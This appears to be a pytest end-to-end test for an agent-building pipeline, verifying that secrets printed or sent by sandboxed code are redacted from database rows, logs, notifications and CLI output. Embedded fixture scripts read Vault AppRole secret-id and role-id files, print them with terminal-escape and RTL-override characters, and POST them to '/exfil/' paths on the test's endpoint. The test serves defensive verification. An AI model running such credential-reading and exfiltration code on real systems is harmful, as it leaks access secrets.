"""Sandbox text is data, never a channel: scripts that print the sandbox AppRole secret-id and
role-id, and send them to the recording endpoint (in the path and the body), through the real
listener (a subprocess with the default pipeline), real Docker and the fakes (Ollama, `claude`,
Vault, ntfy). Afterwards none of the values is in any row of any table, in any line of the
listener's log, in any notification, or in what `agent-builder show` / `status` print; control
characters from the sandbox end escaped."""

from __future__ import annotations

import json
import re
import uuid
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import quote

import psycopg
import pytest
from psycopg import sql

from listener.redact import connection_passwords
from tests.conftest import ROLE_ID, SECRET_ID
from tests.docker.test_end_to_end import pipeline_env
from tests.e2e.listeners import ListenerProcess, query, run_cli, wait_until
from tests.fakes.ntfy_server import FakeNtfy

APPROVAL_SECRET = "approval-secret-for-the-redaction-test"
SANDBOX_DB_PASSWORD = "sandbox-db-password-4711"
NTFY_TOKEN_IN_VAULT = "tk_fromvault123"  # tests/conftest.py fake_vault: secret/agent-builder ntfy_token

READ_APPROLE = '''import json
import os
import sys
import urllib.request
from pathlib import Path
from urllib.parse import quote

APPROLE = Path("/opt/appdata/docker/docker-compose/vault/approle")
ROLE_ID = (APPROLE / "role-id").read_text().strip()
SECRET_ID = (APPROLE / "secret-id").read_text().strip()
EVERY_CHARACTER_ENCODED = "".join("%" + format(b, "02X") for b in SECRET_ID.encode())


def post(path: str) -> int:
    body = json.dumps({"secret_id": SECRET_ID, "role_id": ROLE_ID}).encode()
    request = urllib.request.Request(os.environ["SANDBOX_HTTP_URL"] + path, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        return answer.status
'''

PRINTS_AND_FAILS = "=== FILE: script.py ===\n" + READ_APPROLE + r'''

def main() -> None:
    print("\x1b[31mALERT\x1b[0m \u202egnp.exe nul:\x00 bell:\x07 end", flush=True)
    print("role-id:", ROLE_ID, flush=True)
    print("secret-id:", SECRET_ID, "upper:", SECRET_ID.upper(), flush=True)
    print("encoded:", EVERY_CHARACTER_ENCODED, quote(SECRET_ID, safe=""), flush=True)
    sys.exit("giving up with " + SECRET_ID + " and " + ROLE_ID)


if __name__ == "__main__":
    main()
'''

EXFILTRATES = "=== FILE: script.py ===\n" + READ_APPROLE + '''

def main() -> None:
    for path in ("/exfil/" + SECRET_ID, "/exfil/" + ROLE_ID + "/" + EVERY_CHARACTER_ENCODED, "/report"):
        print(path, post(path), flush=True)
    print("sent", SECRET_ID, flush=True)


if __name__ == "__main__":
    main()
'''


def every_row_as_text(db_url: str) -> str:
    """Every row of every table of the database (the builder's and the migration tool's)."""
    with psycopg.connect(db_url, autocommit=True) as conn:
        tables = conn.execute("SELECT table_schema, table_name FROM information_schema.tables"
                              " WHERE table_type = 'BASE TABLE'"
                              " AND table_schema NOT IN ('pg_catalog', 'information_schema')").fetchall()
        assert len(tables) >= 4, tables
        lines = []
        for schema, table in tables:
            statement = sql.SQL("SELECT t::text FROM {}.{} t").format(sql.Identifier(schema), sql.Identifier(table))
            lines += [f"{schema}.{table}: {row[0]}" for row in conn.execute(statement).fetchall()]
    return "\n".join(lines)


def leaked(text: str, values: list[str]) -> list[str]:
    lowered = text.lower()
    return [value for value in values if value.lower() in lowered]


@pytest.fixture
def sandbox_network(docker_client) -> Iterator[str]:
    name = f"agent-builder-test-redact-{uuid.uuid4().hex[:8]}"
    yield name
    for network in docker_client.networks.list(names=[name]):
        network.remove()


@pytest.fixture
def own_objects(docker_client, db_url) -> Iterator[None]:
    from tests.helpers import installation, remove_installation_objects

    yield
    remove_installation_objects(docker_client, installation(db_url))


def test_secrets_printed_or_sent_by_sandbox_code_reach_no_table_log_notification_or_output(
        db_url, docker_client, base_image, fake_ollama, fake_vault, approle_dir: Path, sandbox_network: str,
        own_objects: None, tmp_path: Path) -> None:
    env = pipeline_env(db_url, fake_ollama, "", base_image, tmp_path)
    with FakeNtfy(required_token=NTFY_TOKEN_IN_VAULT) as ntfy:
        env.update({
            "NTFY_URL": ntfy.url, "SANDBOX_NETWORK": sandbox_network, "VAULT_APPROLE_DIR": str(approle_dir),
            "VAULT_ADDR": fake_vault.url, "VAULT_SECRETS_PATH": "agent-builder",
            "APPROVAL_SECRET": APPROVAL_SECRET, "APPROVAL_BASE_URL": "http://127.0.0.1:9/ab",
            "APPROVAL_ADDR": "127.0.0.1:0",
            "SANDBOX_DATABASE_URL": f"postgresql://reader:{SANDBOX_DB_PASSWORD}@127.0.0.1:9/sandbox",
        })
        listener = ListenerProcess(env, tmp_path / "listener.log")
        ids: dict[str, int] = {}
        try:
            listener.wait_listening(30)
            for key, code, check in (
                ("prints", PRINTS_AND_FAILS, {"kind": "file_exists", "path": "/tmp/never"}),
                ("exfil-fails-4", EXFILTRATES, {"kind": "http_request", "method": "POST", "path": "/never"}),
                ("exfil-passes-4", EXFILTRATES, {"kind": "http_request", "method": "POST", "path": "/report"}),
            ):
                fake_ollama.response_text = code
                ids[key] = query(db_url, "INSERT INTO automation_ideas (name, type, status, priority, task_description,"
                                         " infrastructure_requirement, acceptance_check) VALUES (%s, 'script',"
                                         " 'ready_to_build', 1, 'Report on the AppRole files', 'none', %s::jsonb)"
                                         " RETURNING id", (f"Leaky {key}", json.dumps({"checks": [check]})))[0]["id"]
                wait_until(lambda: query(db_url, "SELECT builder_status FROM automation_ideas WHERE id = %s",
                                         (ids[key],))[0]["builder_status"] in ("failed", "awaiting_approval"),
                           180, f"the build of {key}", listener)
            wait_until(lambda: len(ntfy.published) >= 6, 10, "the notifications", listener)
        finally:
            assert listener.stop() == 0
        published = json.dumps(ntfy.published, ensure_ascii=False)

    def results(key: str) -> list[dict[str, Any]]:
        return query(db_url, "SELECT test_level, status, execution_log FROM agent_test_results WHERE automation_id = %s"
                             " ORDER BY id", (ids[key],))

    # What happened is what the scripts were written to do (so the checks below are not vacuous).
    prints, fails_4, passes_4 = results("prints"), results("exfil-fails-4"), results("exfil-passes-4")
    assert [(r["test_level"], r["status"]) for r in prints] == [(1, "pass"), (2, "pass"), (3, "fail")], prints
    assert [(r["test_level"], r["status"]) for r in fails_4][-1] == (4, "fail"), fails_4
    assert [(r["test_level"], r["status"]) for r in passes_4][-2:] == [(3, "pass"), (4, "pass")], passes_4
    level_3 = prints[-1]["execution_log"]
    assert "role-id: [redacted]" in level_3 and "secret-id: [redacted] upper: [redacted]" in level_3
    assert "encoded: [redacted] [redacted]" in level_3 and "giving up with [redacted] and [redacted]" in level_3
    assert "\\x1b[31mALERT\\x1b[0m \\u202egnp.exe nul:\\x00 bell:\\x07 end" in level_3
    assert "\x1b" not in level_3 and "\u202e" not in level_3
    assert "/exfil/[redacted]" in fails_4[-1]["execution_log"] and "sent [redacted]" in passes_4[-2]["execution_log"]
    assert fake_vault.issued_tokens, "the listener logged in to Vault"

    secrets = [SECRET_ID, ROLE_ID, quote(SECRET_ID, safe=""), "".join(f"%{b:02X}" for b in SECRET_ID.encode()),
               APPROVAL_SECRET, SANDBOX_DB_PASSWORD, NTFY_TOKEN_IN_VAULT, *fake_vault.issued_tokens,
               *connection_passwords(db_url)]

    # No row of any table.
    rows = every_row_as_text(db_url)
    assert "[redacted]" in rows
    assert leaked(rows, secrets) == []

    # No log line (the listener's whole stdout and stderr, at DEBUG).
    log = listener.log()
    assert "recording endpoint: POST /exfil/[redacted]" in log
    assert leaked(log, secrets) == [] and "\x1b[" not in log

    # No notification; a failure says the level and the builder's reason, and where the rest is.
    assert leaked(published, secrets) == []
    for raw in ("role-id:", "giving up", "ALERT", "/exfil/"):
        assert raw not in published
    messages = [m["message"] for m in ntfy.published]
    assert any(re.fullmatch(
        rf"\[Agent Builder\] FAIL — Leaky prints failed Level 3: Level 3 \(smoke\) failed: exit code 1 after [0-9.]+ s\n"
        rf"`agent-builder show {ids['prints']}` has the rest", m) for m in messages), messages
    assert any(m.startswith("[Agent Builder] FAIL — Leaky exfil-fails-4 failed Level 4: Level 4 (assertion) failed: "
                            "1 of 1 check(s) did not hold, first http_request\n") for m in messages), messages
    assert any("READY — Leaky exfil-passes-4 passed all tests" in m for m in messages), messages

    # Not in what the commands print.
    commands = [("status",), ("status", "--json")]
    commands += [("show", str(i), *flag) for i in ids.values() for flag in ((), ("--json",))]
    for args in commands:
        done = run_cli(env, *args)
        assert done.returncode == 0, done.stderr
        assert leaked(done.stdout + done.stderr, secrets) == [], args
    shown = run_cli(env, "show", str(ids["prints"])).stdout
    assert "\\x1b[31mALERT\\x1b[0m" in shown and "\x1b" not in shown and "[redacted]" in shown
    as_json = json.loads(run_cli(env, "show", str(ids["prints"]), "--json").stdout)
    assert "\\x1b[31mALERT" in as_json["results"][-1]["execution_log"]
